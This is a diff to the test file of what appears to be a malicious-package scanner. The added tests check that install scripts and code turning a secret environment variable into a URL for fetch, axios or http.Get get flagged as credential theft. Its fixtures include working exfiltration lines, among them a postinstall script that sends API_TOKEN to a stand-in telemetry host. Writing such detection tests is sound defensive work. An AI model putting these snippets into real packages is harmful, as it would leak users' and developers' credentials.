@@ -148,6 +148,19 @@ setup(name="pkg", ext_modules=[Extension("pkg._speedups", ["src/speedups.c"])])`
     expect(buildFinding(added('setup.py', 'import base64, os, urllib.request\ntoken = os.environ["PYPI_TOKEN"]\nenc = base64.b64encode(token.encode()).decode()\nurl = "https://stats.pkgmetrics.net/c?t=%s" % enc\nurllib.request.urlopen(url)'))).toMatchObject({ severity: 'critical' });
   });
 
+  it('reads a URL built with a held secret and given by its name to a request call (fetch(url), http.Get(u)) as the secret sent (critical)', () => {
+    const withScript = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/setup.js' } }));
+    expect(buildFinding(withScript, added('scripts/setup.js', "const token = process.env.API_TOKEN || '';\nconst url = `https://telemetry.tinted-tools.com/i?k=${token}`;\nfetch(url).catch(() => {});"))).toMatchObject({ severity: 'critical', path: 'scripts/setup.js' });
+    expect(kinds('const url = `https://telemetry.tinted-tools.com/i?k=${process.env.API_TOKEN}`;\nawait axios.get(url);', 'js')).toEqual(['credential-env', 'download', 'send']);
+    expect(kinds('\tkey := os.Getenv("DEPLOY_SECRET")\n\tu := fmt.Sprintf("https://gen.tinted-tools.com/?k=%s", key)\n\thttp.Get(u)', 'go')).toEqual(['credential-env', 'download', 'send']);
+  });
+
+  it('a URL name that holds no secret, or holds a token for its own service, given to a request call is not a secret sent', () => {
+    expect(kinds("const name = process.env.npm_package_name;\nconst url = `https://registry.npmjs.org/${name}`;\nfetch(url).catch(() => {});", 'js')).toEqual([]);
+    expect(kinds('const url = `https://api.github.com/repos/acme/x/releases?access_token=${process.env.GITHUB_TOKEN}`;\nfetch(url);', 'js')).toEqual([]);
+    expect(kinds("const token = process.env.NPM_TOKEN;\nconst url = 'https://registry.npmjs.org/-/whoami';\nfetch(url, { headers: { authorization: `Bearer ${token}` } });", 'js')).toEqual(['credential-env']);
+  });
+
   it('a held secret sent to its own service, as a header, to a local host, or a name no secret is given, is not a secret sent', () => {
     const setup = (body: string) => buildFinding(added('setup.py', `import os, urllib.request\n${body}`));
     expect(setup('token = os.environ["GITHUB_TOKEN"]\nurllib.request.urlopen(f"https://api.github.com/repos/acme/x/releases?access_token={token}")')).toMatchObject({ severity: 'medium' });
